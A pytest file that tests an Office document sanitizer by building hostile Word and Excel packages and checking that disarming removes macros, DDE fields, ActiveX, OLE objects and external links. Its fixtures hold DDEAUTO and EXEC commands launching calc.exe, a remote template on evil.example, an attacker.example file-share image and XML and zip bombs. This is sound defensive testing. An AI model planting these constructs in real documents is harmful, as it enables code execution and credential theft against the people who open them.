"""OOXML disarm: the output is reopened and searched for every kind of active content the CDR promises to remove."""

from __future__ import annotations

import io
import posixpath
import re
import warnings
import zipfile
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import pytest
from lxml import etree

from mamoru.sanitize.cdr import classify, disarm
from mamoru.sanitize.policy import Limits

CORPUS = Path(__file__).resolve().parents[2].parent / "shared" / "corpus" / "active_content" / "office"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MSREL = "http://schemas.microsoft.com/office/2006/relationships"


def corpus_file(*parts: str) -> Path:
    path = CORPUS.joinpath(*parts)
    if not CORPUS.is_dir():
        pytest.skip(f"../shared not available: {CORPUS} is missing, the real-world Office corpus cannot be read")
    return path


def make_package(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in parts.items():
            zf.writestr(name, content.encode() if isinstance(content, str) else content)
    return out.getvalue()


def rels(*entries: tuple[str, str, str] | tuple[str, str, str, str]) -> str:
    body = "".join(
        f'<Relationship Id="{e[0]}" Type="{e[1]}" Target="{e[2]}"'
        + (' TargetMode="External"' if len(e) == 4 else "") + "/>" for e in entries)
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'


def content_types(defaults: dict[str, str], overrides: dict[str, str]) -> str:
    body = "".join(f'<Default Extension="{k}" ContentType="{v}"/>' for k, v in defaults.items())
    body += "".join(f'<Override PartName="{k}" ContentType="{v}"/>' for k, v in overrides.items())
    return f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{body}</Types>'


# A tiny PNG so the package has a genuine internal picture that must survive.
PNG_1PX = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                        "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")


def hostile_docm() -> bytes:
    """A macro-enabled Word package carrying every active feature the CDR must take out, plus benign content."""
    document = f"""<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}" xmlns:v="urn:schemas-microsoft-com:vml"
 xmlns:o="urn:schemas-microsoft-com:office:office"
 xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:body>
<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; ">
<w:r><w:t>simple result</w:t></w:r></w:fldSimple></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>
<w:r><w:instrText>EAUTO c:\\\\windows\\\\cmd.exe "/c calc"</w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r>
<w:r><w:t>complex result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>link text</w:t></w:r></w:hyperlink></w:p>
<w:p><w:r><w:object><v:shape id="s1"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rIdOle"/>
</w:object></w:r></w:p>
<w:p><w:r><w:object><w:control r:id="rIdCtl" w:name="CommandButton1"/></w:object></w:r></w:p>
<w:p><w:r><w:drawing><a:blip r:embed="rIdImg"/><a:blip r:link="rIdExtImg"/></w:drawing></w:r></w:p>
<w:p><w:r><w:t>body text stays</w:t></w:r></w:p>
</w:body></w:document>"""
    settings = f'<w:settings xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:attachedTemplate r:id="rId1"/><w:zoom/></w:settings>'
    return make_package({
        "[Content_Types].xml": content_types(
            {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml",
             "bin": "application/vnd.ms-office.vbaProject", "png": "image/png"},
            {"/word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml",
             "/word/settings.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
             "/word/vbaData.xml": "application/vnd.ms-word.vbaData+xml",
             "/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml",
             "/word/embeddings/oleObject1.bin": "application/vnd.openxmlformats-officedocument.oleObject"}),
        "_rels/.rels": rels(("rId1", f"{REL}/officeDocument", "word/document.xml"),
                            ("rId2", f"{MSREL}/ui/extensibility", "customUI/customUI.xml")),
        "customUI/customUI.xml": '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" '
                                 'onLoad="AutoRun"/>',
        "word/document.xml": document,
        "word/_rels/document.xml.rels": rels(
            ("rIdVba", f"{MSREL}/vbaProject", "vbaProject.bin"),
            ("rIdSet", f"{REL}/settings", "settings.xml"),
            ("rIdLink", f"{REL}/hyperlink", "http://phish.example/login", "External"),
            ("rIdOle", f"{REL}/oleObject", "embeddings/oleObject1.bin"),
            ("rIdCtl", f"{REL}/control", "activeX/activeX1.xml"),
            ("rIdImg", f"{REL}/image", "media/image1.png"),
            ("rIdExtImg", f"{REL}/image", "file://attacker.example/share/pixel.png", "External")),
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": rels(
            ("rId1", f"{REL}/attachedTemplate", "https://evil.example/template.dotm", "External")),
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 fake VBA project",
        "word/_rels/vbaProject.bin.rels": rels(("rId1", f"{MSREL}/wordVbaData", "vbaData.xml")),
        "word/vbaData.xml": '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
        "word/activeX/activeX1.xml": '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
                                     'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>',
        "word/activeX/_rels/activeX1.xml.rels": rels(
            ("rId1", f"{MSREL}/activeXControlBinary", "activeX1.bin")),
        "word/activeX/activeX1.bin": b"binary control state",
        "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 packaged setup.exe",
        "word/media/image1.png": PNG_1PX,
    })


def hostile_xlsm() -> bytes:
    """A workbook with an Excel 4 macro sheet first, Auto_Open, a DDE external link and sheet-local names."""
    x_ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    workbook = f"""<workbook xmlns="{x_ns}" xmlns:r="{R_NS}"><bookViews><workbookView activeTab="2"/></bookViews>
<sheets><sheet name="Macro1" sheetId="1" r:id="rId1"/><sheet name="Data" sheetId="2" r:id="rId2"/>
<sheet name="Summary" sheetId="3" r:id="rId3"/></sheets>
<externalReferences><externalReference r:id="rId4"/></externalReferences>
<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>
<definedName name="OnMacro" localSheetId="0">Macro1!$A$1</definedName>
<definedName name="_xlnm.Print_Area" localSheetId="2">Summary!$A$1:$B$2</definedName>
<definedName name="Everywhere">Data!$A$1</definedName></definedNames></workbook>"""
    sheet = (f'<worksheet xmlns="{x_ns}" xmlns:r="{R_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr">'
             '<is><t>{text}</t></is></c></row></sheetData>{extra}</worksheet>')
    return make_package({
        "[Content_Types].xml": content_types(
            {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml"},
            {"/xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
             "/xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml",
             "/xl/worksheets/sheet1.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
             "/xl/worksheets/sheet2.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
             "/xl/externalLinks/externalLink1.xml":
                 "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"}),
        "_rels/.rels": rels(("rId1", f"{REL}/officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": workbook,
        "xl/_rels/workbook.xml.rels": rels(
            ("rId1", f"{MSREL}/xlMacrosheet", "macrosheets/sheet1.xml"),
            ("rId2", f"{REL}/worksheet", "worksheets/sheet1.xml"),
            ("rId3", f"{REL}/worksheet", "worksheets/sheet2.xml"),
            ("rId4", f"{REL}/externalLink", "externalLinks/externalLink1.xml")),
        "xl/macrosheets/sheet1.xml": f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'
                                     f' xmlns="{x_ns}"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c>'
                                     '</row></sheetData></xm:macrosheet>',
        "xl/worksheets/sheet1.xml": sheet.format(
            text="data", extra='<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>'),
        "xl/worksheets/_rels/sheet1.xml.rels": rels(
            ("rId1", f"{REL}/hyperlink", "http://phish.example/", "External")),
        "xl/worksheets/sheet2.xml": sheet.format(text="summary", extra=""),
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{x_ns}"><ddeLink ddeService="cmd" '
                                              "ddeTopic=\"/c calc.exe\"/></externalLink>",
    })


# --- the checker ------------------------------------------------------------------------------------------------------

ACTIVE_NAME = re.compile(r"(^|/)(vbaProject[^/]*\.bin|vbaData\.xml)$|(^|/)(activeX|customUI|embeddings|macrosheets|"
                         r"externalLinks)/", re.IGNORECASE)


def _source_of(rels_name: str) -> str:
    directory, base = posixpath.split(rels_name)
    return posixpath.join(posixpath.dirname(directory), base[: -len(".rels")])


def assert_package_clean(data: bytes, *, allow_embedded_packages: bool = False) -> zipfile.ZipFile:
    """Reopen a disarmed package and prove nothing active is left and every reference still resolves."""
    zf = zipfile.ZipFile(io.BytesIO(data))
    assert zf.testzip() is None
    names = zf.namelist()
    lower = {n.lower() for n in names}
    for name in names:
        if allow_embedded_packages and "/embeddings/" in name and name.lower().endswith((".xlsx", ".docx", ".pptx")):
            continue
        assert not ACTIVE_NAME.search(name), f"active part left: {name}"
    types = zf.read("[Content_Types].xml").decode()
    assert "macroenabled" not in types.lower()
    assert "vbaproject" not in types.lower()
    ct_root = etree.fromstring(types.encode())
    overrides = {el.get("PartName").lstrip("/").lower() for el in ct_root if el.tag.endswith("Override")}
    assert overrides <= lower, f"[Content_Types].xml names missing parts: {overrides - lower}"
    for name in names:
        if not name.endswith(".rels"):
            continue
        root = etree.fromstring(zf.read(name))
        source = _source_of(name)
        ids = set()
        for rel in root:
            assert rel.get("TargetMode") != "External", f"external relationship left in {name}: {rel.get('Target')}"
            ids.add(rel.get("Id"))
            target = posixpath.normpath(posixpath.join(posixpath.dirname(source), unquote(rel.get("Target"))))
            if rel.get("Target").startswith("/"):
                target = unquote(rel.get("Target")).lstrip("/")
            assert target.lower() in lower, f"{name} points to a missing part {target}"
        if source and source.lower() in lower and source.endswith(".xml"):
            part = etree.fromstring(zf.read(source))
            for element in part.iter():
                for attr, value in element.attrib.items():
                    if attr.startswith(f"{{{R_NS}}}") and value:
                        assert value in ids, f"{source}: {element.tag} refers to missing relationship {value}"
    for name in names:
        if name.endswith(".xml"):
            text = zf.read(name)
            for instr in re.findall(rb'instr="([^"]*)"', text) + re.findall(rb"<w:instrText[^>]*>([^<]*)<", text):
                assert b"DDE" not in instr.upper(), f"DDE field left in {name}"
            assert b"ddeLink" not in text
            assert b"attachedTemplate" not in text
    return zf


# --- crafted packages -------------------------------------------------------------------------------------------------

def test_hostile_docm_is_disarmed_into_a_consistent_docx() -> None:
    data = hostile_docm()
    assert classify(data, "report.docm", None) == "office"
    result = disarm(data, category="office", filename="report.docm", content_type=None, limits=Limits())
    assert result.action == "disarmed"
    assert result.filename == "report.docx"
    assert result.content_type == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    for finding in ("ooxml:vbaProject.bin", "ooxml:vbaData.xml", "ooxml:activeX", "ooxml:customUI",
                    "ooxml:oleObject", "ooxml:attachedTemplate", "ooxml:external-relationship", "ooxml:DDE",
                    "ooxml:macroEnabled-type"):
        assert finding in result.findings
    assert result.data is not None
    zf = assert_package_clean(result.data)
    names = set(zf.namelist())
    assert "word/media/image1.png" in names  # the internal picture stays
    types = zf.read("[Content_Types].xml").decode()
    assert "wordprocessingml.document.main+xml" in types
    document = zf.read("word/document.xml").decode()
    for text in ("simple result", "complex result", "link text", "body text stays"):
        assert text in document  # what the reader saw is still there
    assert " PAGE " in document  # a harmless field survives
    assert 'r:embed="rIdImg"' in document
    assert "attachedTemplate" not in zf.read("word/settings.xml").decode()


def test_hostile_xlsm_loses_macro_sheet_auto_open_and_dde_link_and_opens_in_openpyxl() -> None:
    result = disarm(hostile_xlsm(), category="office", filename="集計.xlsm", content_type=None, limits=Limits())
    assert result.action == "disarmed"
    assert result.filename == "集計.xlsx"
    for finding in ("ooxml:macrosheet", "ooxml:auto-open", "ooxml:externalLink", "ooxml:ddeLink"):
        assert finding in result.findings
    assert result.data is not None
    assert_package_clean(result.data)
    workbook = openpyxl.load_workbook(io.BytesIO(result.data))
    assert workbook.sheetnames == ["Data", "Summary"]
    assert workbook["Data"]["A1"].value == "data"
    assert workbook["Data"]["A1"].hyperlink is None
    # The print area named for "Summary" (third sheet, localSheetId 2) now belongs to the second sheet.
    assert "_xlnm.Print_Area" in workbook["Summary"].defined_names or workbook["Summary"].print_area
    assert "OnMacro" not in workbook.defined_names
    assert "Everywhere" in workbook.defined_names
    assert workbook.active is not None and workbook.active.title in ("Data", "Summary")


def test_clean_docx_is_kept_byte_for_byte() -> None:
    data = make_package({
        "[Content_Types].xml": content_types(
            {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml"},
            {"/word/document.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"}),
        "_rels/.rels": rels(("rId1", f"{REL}/officeDocument", "word/document.xml")),
        "word/document.xml": f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>hi</w:t></w:r></w:p></w:body>'
                             "</w:document>",
    })
    result = disarm(data, category="office", filename="memo.docx", content_type=None, limits=Limits())
    assert result.action == "kept"
    assert result.data == data
    assert result.filename == "memo.docx"
    assert result.findings == ()


def test_zip_bomb_in_office_container_is_removed_by_size_and_ratio() -> None:
    bomb = make_package({
        "[Content_Types].xml": content_types({"xml": "application/xml"}, {}),
        "word/document.xml": "<a>" + " " * 3_000_000 + "</a>",
    })
    by_ratio = disarm(bomb, category="office", filename="a.docx", content_type=None, limits=Limits())
    assert (by_ratio.action, by_ratio.reason) == ("removed", "limit:ratio")
    by_size = disarm(bomb, category="office", filename="a.docx", content_type=None,
                     limits=Limits(max_decompressed_bytes=1_000_000, max_ratio=100_000))
    assert (by_size.action, by_size.reason) == ("removed", "limit:size")


def test_xml_bomb_part_makes_the_package_unreadable() -> None:
    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
              "<w:document>&lol2;</w:document>")
    data = make_package({
        "[Content_Types].xml": content_types({"xml": "application/xml"}, {}),
        "_rels/.rels": rels(("rId1", f"{REL}/officeDocument", "word/document.xml")),
        "word/document.xml": laughs,
    })
    result = disarm(data, category="office", filename="a.docx", content_type=None, limits=Limits())
    assert (result.action, result.reason) == ("removed", "unreadable")
    assert result.data is None


def test_xlsb_is_removed_as_unsupported() -> None:
    data = make_package({
        "[Content_Types].xml": content_types(
            {"rels": "application/vnd.openxmlformats-package.relationships+xml"},
            {"/xl/workbook.bin": "application/vnd.ms-excel.sheet.binary.macroEnabled.main"}),
        "_rels/.rels": rels(("rId1", f"{REL}/officeDocument", "xl/workbook.bin")),
        "xl/workbook.bin": b"\x83\x01\x00",
    })
    result = disarm(data, category="office", filename="a.xlsb", content_type=None, limits=Limits())
    assert (result.action, result.reason) == ("removed", "unsupported-xlsb")


# --- real files -------------------------------------------------------------------------------------------------------

CORPUS_PACKAGES = [
    ("document", "SimpleMacro.docm", "SimpleMacro.docx"),
    ("document", "45690.docm", "45690.docx"),
    ("document", "60158.docm", "60158.docx"),
    ("spreadsheet", "SimpleMacro.xlsm", "SimpleMacro.xlsx"),
    ("spreadsheet", "45431.xlsm", "45431.xlsx"),
    ("spreadsheet", "61495-test.xlsm", "61495-test.xlsx"),
    ("spreadsheet", "testNames.xlsm", "testNames.xlsx"),
    ("spreadsheet", "xlmmacro.xlsm", "xlmmacro.xlsx"),
    ("spreadsheet", "ExcelWithAttachments.xlsm", "ExcelWithAttachments.xlsx"),
    ("slideshow", "SimpleMacro.pptm", "SimpleMacro.pptx"),
    ("slideshow", "PPTWithAttachments.pptm", "PPTWithAttachments.pptx"),
    ("diagram", "SimpleMacro.vsdm", "SimpleMacro.vsdx"),
]


@pytest.mark.parametrize(("folder", "name", "new_name"), CORPUS_PACKAGES)
def test_real_macro_packages_are_disarmed(folder: str, name: str, new_name: str) -> None:
    path = corpus_file("apache__poi", folder, name)
    data = path.read_bytes()
    assert classify(data, name, None) == "office"
    result = disarm(data, category="office", filename=name, content_type=None, limits=Limits())
    assert result.action == "disarmed", result
    assert result.filename == new_name
    assert "ooxml:macroEnabled-type" in result.findings
    assert result.data is not None
    assert_package_clean(result.data, allow_embedded_packages=True)
    if new_name.endswith(".xlsx"):
        with warnings.catch_warnings():  # openpyxl warns that it drops drawings it cannot model
            warnings.simplefilter("ignore", UserWarning)
            workbook = openpyxl.load_workbook(io.BytesIO(result.data))
        assert workbook.sheetnames
        assert not any("macro" in title.lower() for title in workbook.sheetnames)


def test_real_xlm_macro_sheet_is_gone_and_the_worksheets_remain() -> None:
    data = corpus_file("apache__poi", "spreadsheet", "xlmmacro.xlsm").read_bytes()
    original = openpyxl.load_workbook(io.BytesIO(data))
    assert original.sheetnames == ["Macro1", "Sheet1", "Sheet2"]
    result = disarm(data, category="office", filename="xlmmacro.xlsm", content_type=None, limits=Limits())
    assert result.data is not None
    workbook_xml = zipfile.ZipFile(io.BytesIO(result.data)).read("xl/workbook.xml").decode()
    assert "Macro1" not in workbook_xml
    assert openpyxl.load_workbook(io.BytesIO(result.data)).sheetnames == ["Sheet1", "Sheet2"]


def test_real_package_with_embedded_objects_keeps_its_clean_embedded_workbook() -> None:
    data = corpus_file("apache__poi", "slideshow", "PPTWithAttachments.pptm").read_bytes()
    result = disarm(data, category="office", filename="p.pptm", content_type=None, limits=Limits())
    assert result.data is not None
    names = zipfile.ZipFile(io.BytesIO(result.data)).namelist()
    assert not [n for n in names if n.endswith((".bin", ".doc", ".xls")) and "embeddings" in n]
    assert "ppt/embeddings/_____Microsoft_Office_Excel1.xlsx" in names
    assert "ooxml:embedded-object" in result.findings and "ooxml:oleObject" in result.findings
